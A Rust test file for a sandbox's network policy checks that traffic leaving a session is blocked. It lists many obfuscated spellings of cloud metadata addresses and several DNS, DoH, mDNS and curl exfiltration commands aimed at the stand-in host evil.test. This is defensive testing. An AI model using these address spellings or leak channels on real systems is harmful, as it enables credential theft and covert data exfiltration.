//! A network of its own in which every address answers (N08, N10, N12, N22): what leaves a session is
//! seen packet by packet where it would arrive.

use std::collections::BTreeSet;

use serde_json::Value;
use stockade_testkit::{Output, TestEnv, UNATTENDED, env::User, events, run::require_tool};

use crate::attacks::environment;

const WORLD: &str = include_str!("internet.py");

/// Connects two network namespaces: one has the world in it, in the other the command runs, first as it
/// is and then in a session, as an ordinary user whose name server is in the world.
const JOIN: &str = r#"
    ip link set lo up || exit 99
    unshare --net python3 "$WORLD" "$SEEN" &
    world=$!
    until [ -e /proc/$world ] && [ "$(readlink /proc/$world/ns/net)" != "$(readlink /proc/self/ns/net)" ]; do
        kill -0 $world || exit 98; sleep 0.01
    done
    ip link add v0 type veth peer name v1 netns $world || exit 97
    ip address add 10.77.0.1/24 dev v0 && ip -6 address add fd77::1/64 dev v0 nodad || exit 96
    ip link set v0 up && ip route add default via 10.77.0.2 && ip -6 route add default via fd77::2 || exit 95
    until grep -q up "$SEEN"; do kill -0 $world || exit 94; sleep 0.01; done
    export PS1=
    unshare --mount /bin/sh -c '
        mount --bind "$RESOLVERS" /etc/resolv.conf && unshare --user --map-user=1001 --map-group=1001 "$@"
    ' sh "$@"
    code=$?
    kill $world
    exit $code"#;

/// Makes the attempts of a file, one a line: `KIND MARK ARGUMENT…`. The mark is in what is sent.
const ATTEMPTS: &str = r#"
import socket, struct, subprocess, sys
def web(mark, host, port="80"):
    family, kind, protocol, _, address = socket.getaddrinfo(host, int(port), type=socket.SOCK_STREAM)[0]
    with socket.socket(family, kind, protocol) as s:
        s.settimeout(10)
        s.connect(address)
        shown = "[%s]" % host if ":" in host else host
        s.sendall(("GET /%s-end HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (mark, shown)).encode())
        return s.recv(4096).split(b"\r\n")[0].decode()
def udp(mark, address, port):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.settimeout(0.2)
        s.connect((address, int(port)))
        s.send(b"%s-end" % mark.encode())
        return "sent"
def tcp(mark, address, port):
    with socket.create_connection((address, int(port)), timeout=10) as s:
        s.sendall(b"%s-end" % mark.encode())
        return str(s.recv(10))
def dns(mark, address, name, kind, over):
    name = b"".join(bytes([len(part)]) + part.encode() for part in (mark + "-end." + name).split("."))
    query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + name + b"\0" + struct.pack(">2H", int(kind), 1)
    way = socket.SOCK_STREAM if over == "tcp" else socket.SOCK_DGRAM
    with socket.socket(socket.AF_INET, way) as s:
        s.settimeout(10)
        s.connect((address, 53))
        s.sendall((struct.pack(">H", len(query)) if over == "tcp" else b"") + query)
        answer = s.recv(512)[2 if over == "tcp" else 0:]
        return "code %d" % (answer[3] & 15) if answer else "nothing"
def run(mark, *line):
    done = subprocess.run(" ".join(line).replace("MARK", mark + "-end"), shell=True, capture_output=True, timeout=30)
    return "exit %d" % done.returncode
for line in open(sys.argv[1]):
    kind, mark, *rest = line.split()
    try:
        print(mark, globals()[kind](mark, *rest), flush=True)
    except OSError as error:
        print(mark, error, flush=True)
"#;

/// What arrived in the world.
struct Arrived(Vec<Value>);

impl Arrived {
    /// Returns the fields of everything of one kind, as texts.
    fn of(&self, kind: &str) -> Vec<Vec<String>> {
        let fields = |one: &Value| -> Vec<String> {
            let all = one.as_array().map(Vec::as_slice).unwrap_or_default();
            all.iter()
                .skip(1)
                .map(|field| {
                    field
                        .as_str()
                        .map_or_else(|| field.to_string(), str::to_owned)
                })
                .collect()
        };
        self.0
            .iter()
            .filter(|one| one[0] == kind)
            .map(fields)
            .collect()
    }

    /// Returns where packets went: protocol, address and port.
    fn places(&self) -> BTreeSet<String> {
        let place = |one: &Vec<String>| one.get(..3).unwrap_or_default().join(" ");
        self.of("packet").iter().map(place).collect()
    }

    /// Tells whether a mark was part of any packet.
    fn has(&self, mark: &str) -> bool {
        let mark = format!("{mark}-end");
        self.of("packet")
            .iter()
            .flatten()
            .any(|field| field.to_ascii_lowercase().contains(&mark))
    }
}

/// Makes attempts in the namespace, in a session if there is a policy.
fn attempt(env: &TestEnv, name: &str, attempts: &str, policy: Option<&str>) -> (Output, Arrived) {
    let seen = env.write(format!("{name}.seen"), "");
    let world = env.write("world.py", WORLD);
    let resolvers = env.write(
        "resolv.conf",
        "nameserver 8.8.8.8\noptions timeout:1 attempts:1\n",
    );
    let repo = env.repo_named(name);
    env.write(repo.path().join("attempts"), attempts);
    env.write(repo.path().join("attempts.py"), ATTEMPTS);
    let mut run = env.as_root_of("--net", JOIN);
    if let Some(policy) = policy {
        let policy = env.write("policy.toml", policy);
        run = run.arg(env.binary()).args(UNATTENDED).arg("--session-file");
        run = run
            .arg(env.root().join("session"))
            .arg("--policy")
            .arg(policy)
            .arg("--");
    }
    let output = run
        .args(["python3", "attempts.py", "attempts"])
        .env("SEEN", &seen)
        .env("WORLD", world)
        .env("RESOLVERS", resolvers)
        .current_dir(repo.path())
        .output();
    let text = std::fs::read_to_string(&seen).expect("the fixture is ours");
    let arrived = text
        .lines()
        .map(|line| serde_json::from_str(line).expect("whole lines"));
    (output.clone(), Arrived(arrived.collect()))
}

/// Rules that open names, and addresses around every service for guests.
const POLICY: &str = r#"
schema = 1
[[allow]]
id = "names"
what = "net"
hosts = ["good.test", "**.good.test"]
ports = [80]
[[allow]]
id = "greedy"
what = "net"
hosts = [
    "169.254.0.0/16", "100.0.0.0/8", "168.63.0.0/16", "192.0.0.0/24", "fd00::/16", "fe80::/16", "::/16",
    "64:ff9b::a9fe:0/112", "64:ff9b:1::/48", "2002:a9fe::/32", "2001:0:808:808::/64", "metadata.google.internal",
    "metadata.azure.internal", "instance-data.ec2.internal",
]
ports = [80, 443]
private = true
reason = "lab"
[[deny]]
id = "address"
what = "net"
hosts = ["149.112.112.0/24"]
reason = "lab"
[[deny]]
id = "evil"
what = "net"
hosts = ["evil.test", "**.evil.test"]
reason = "lab"
"#;

/// Every way to write the address of a service for guests, and other such services.
const METADATA: &[&str] = &[
    "169.254.169.254",
    "2852039166",
    "0xa9fea9fe",
    "0xA9.0xFE.0xA9.0xFE",
    "0251.0376.0251.0376",
    "025177524776",
    "169.254.43518",
    "169.16689662",
    "0xa9.254.0251.254",
    "0xa9.16689662",
    "::ffff:169.254.169.254",
    "::ffff:a9fe:a9fe",
    "0:0:0:0:0:ffff:a9fe:a9fe",
    "::169.254.169.254",
    "::ffff:0:a9fe:a9fe",
    "64:ff9b::169.254.169.254",
    "64:ff9b:1::a9fe:a9fe",
    "2002:a9fe:a9fe::1",
    "2001:0:808:808:0:0:5601:5601",
    "fd00:ec2::254",
    "fd00:0ec2:0000:0000:0000:0000:0000:0254",
    "100.100.100.200",
    "168.63.129.16",
    "169.254.170.2",
    "169.254.170.23",
    "192.0.0.192",
    "metadata.google.internal",
    "METADATA.google.internal.",
    "metadata.azure.internal",
    "instance-data.ec2.internal",
];

/// Ways to write an address that no rule has, where rules open names.
const LITERALS: &[&str] = &[
    "9.9.9.9",
    "151587081",
    "0x09090909",
    "0x9.0x9.0x9.0x9",
    "011.011.011.011",
    "9.9.2313",
    "9.592137",
    "::ffff:9.9.9.9",
    "::9.9.9.9",
    "64:ff9b::909:909",
    "2002:909:909::1",
    "2001:0:909:909:0:0:f6f6:f6f6",
    "2620:fe::fe",
];

/// Ways to send a name, or anything else, to somebody who was not asked for: each mark is part of it.
const NAMES: &str = "\
run getent getent hosts MARK.evil.test
run getent-all getent ahosts MARK.unknown.test
run dig dig +tries=1 +time=1 MARK.evil.test
run dig-txt dig +tries=1 +time=1 MARK.evil.test TXT
run dig-null dig +tries=1 +time=1 MARK.evil.test NULL
run dig-srv dig +tries=1 +time=1 _mark._tcp.MARK.evil.test SRV
run dig-other dig +tries=1 +time=1 @8.8.8.8 MARK.evil.test MX
run dig-subnet dig +tries=1 +time=1 +subnet=192.0.2.0/24 @1.1.1.1 MARK.evil.test
run nslookup nslookup -timeout=1 -retry=1 MARK.evil.test
run nslookup-other nslookup -timeout=1 -retry=1 -type=CNAME MARK.evil.test 1.1.1.1
run host host -W 1 -R 1 MARK.evil.test
run host-any host -W 1 -R 1 -t ANY MARK.evil.test
run curl curl -sS -m 5 http://MARK.evil.test/
dns any 1.1.1.1 evil.test 255 udp
dns private 1.1.1.1 evil.test 65399 udp
dns twice 8.8.8.8 evil.test.good.test.evil.test 1 udp
";

/// The same with what has no name that could be judged.
const PACKETS: &str = "\
run dig-stream dig +tcp +tries=1 +time=1 @9.9.9.9 MARK.evil.test
dns stream 1.1.1.1 evil.test 16 tcp
web doh 1.1.1.1
web doh-sealed 8.8.8.8 443
tcp dot 1.1.1.1 853
udp doq 1.1.1.1 853
udp quic 8.8.4.4 443
udp mdns 224.0.0.251 5353
udp llmnr 224.0.0.252 5355
udp netbios 255.255.255.255 137
udp netbios-net 10.77.0.255 138
udp ssdp 239.255.255.250 1900
udp mdns-six ff05::fb 5353
udp time 9.9.9.9 123
";

/// Makes the attempts with and without a session, each of which arrives without. `open` are made in the
/// session alone.
fn compare(env: &TestEnv, closed: &str, open: &str) -> (Output, Arrived) {
    let (output, control) = attempt(env, "control", closed, None);
    for mark in marks(closed) {
        let arrived = control.has(mark);
        assert!(
            arrived,
            "{mark} does not arrive without a session: {output:?}"
        );
    }
    let (output, arrived) = attempt(env, "inside", &[closed, open].concat(), Some(POLICY));
    for mark in marks(closed) {
        assert!(
            output.stdout.contains(&format!("{mark} ")),
            "{mark}: {output:?}"
        );
        assert!(!arrived.has(mark), "{mark}: {output:?}");
    }
    (output, arrived)
}

/// The marks of attempts.
fn marks(attempts: &str) -> impl Iterator<Item = &str> {
    attempts.lines().filter_map(|line| line.split(' ').nth(1))
}

/// An environment of an ordinary user, whoever runs the tests: the namespaces are that user's.
fn place() -> TestEnv {
    for tool in ["ip", "unshare", "python3", "curl", "getent"] {
        require_tool(tool);
    }
    environment(User::ordinary().as_deref())
}

/// No address is reached by the way in which it is written, and no service for guests by any rule; of
/// the addresses of an open name only those are dialled that are public and not the machine's own.
#[test]
fn n08_n10_n12_no_spelling_and_no_answer_leads_to_another_address() {
    let env = place();
    let lines = |kind: &str, hosts: &[&str]| -> String {
        let line = |(number, host): (usize, &&str)| format!("web {kind}-{number} {host}\n");
        hosts.iter().enumerate().map(line).collect()
    };
    let closed = [lines("metadata", METADATA), lines("literal", LITERALS)].concat();
    let names = [
        "good good.test",
        "one flip.good.test",
        "two flip.good.test",
        "three flip.good.test",
        "four flip.good.test",
        "several mixed.good.test",
        "machine own.good.test",
        "mapped six.good.test",
        "alias alias.good.test",
        "alias-inner inner.good.test",
        "address denied.good.test",
    ];
    let open = names.map(|line| {
        let (mark, name) = line.split_once(' ').unwrap_or_default();
        format!("web {mark} {name}\n")
    });
    let (output, arrived) = compare(&env, &closed, &open.concat());
    let http: BTreeSet<String> = arrived.of("http").iter().map(|one| one.join(" ")).collect();
    let requests = [
        "8.8.4.4 GET /good",
        "8.8.4.4 GET /one",
        "8.8.4.4 GET /several",
        "9.9.9.9 GET /alias",
    ];
    assert_eq!(
        http,
        requests.map(|line| format!("{line}-end HTTP/1.1")).into(),
        "{output:?}"
    );
    // Nothing else was sent anywhere, and only open names were asked for.
    let known = ["6 8.8.4.4 80", "6 9.9.9.9 80", "17 8.8.8.8 53"];
    assert_eq!(
        arrived.places(),
        known.map(str::to_owned).into(),
        "{output:?}"
    );
    let asked = arrived.of("dns");
    assert!(
        asked.iter().all(|query| query[0].ends_with("good.test")),
        "{asked:?}"
    );
    let record = env.record();
    for (rule, least) in [
        ("metadata", METADATA.len() - 6),
        ("private-address", 4),
        ("address", 1),
    ] {
        let refused = record
            .iter()
            .filter(|one| one.is_refusal() && one.rule() == rule);
        assert!(
            refused.count() >= least,
            "{rule}: {}",
            events::summary(&record)
        );
    }
}

/// No name leaves unless a rule opens it, by any tool, type or server, and nothing else that asks; each
/// name is one event.
#[test]
fn n22_no_name_leaves_by_any_tool_or_protocol() {
    for tool in ["dig", "nslookup", "host"] {
        require_tool(tool);
    }
    let env = place();
    let (output, arrived) = compare(&env, &[NAMES, PACKETS].concat(), "web good good.test\n");
    let known = ["6 8.8.4.4 80", "17 8.8.8.8 53"];
    assert_eq!(
        arrived.places(),
        known.map(str::to_owned).into(),
        "{output:?}"
    );
    let asked = arrived.of("dns");
    assert!(
        !asked.is_empty() && asked.iter().all(|query| query[0] == "good.test"),
        "{asked:?}"
    );
    let record = env.record();
    for mark in marks(NAMES) {
        let name = format!("{mark}-end.");
        let refused = record
            .iter()
            .any(|one| one.is_refusal() && one.targets(&name));
        assert!(refused, "{mark}: {}", events::summary(&record));
    }
}
